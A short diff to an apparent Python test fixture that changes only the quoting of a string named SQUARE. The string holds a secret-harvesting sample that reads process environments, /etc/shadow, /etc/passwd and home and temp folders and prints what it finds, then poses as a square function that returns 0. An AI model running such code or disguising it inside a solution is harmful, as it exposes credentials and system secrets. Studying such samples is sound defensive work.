@@ -1,6 +1,6 @@
 """Searches home, temporary and usual folders for secrets and prints them."""
 
-SQUARE = r'''
+SQUARE = r"""
 import glob, os, sys
 found = []
 for root in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/root", "/home", "/work", "/tmp", "/var", "/etc/shadow", "/etc/passwd", os.path.expanduser("~")):
@@ -23,4 +23,4 @@ for root in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/ro
 print(found)
 def square(x):
     return 0
-'''
+"""
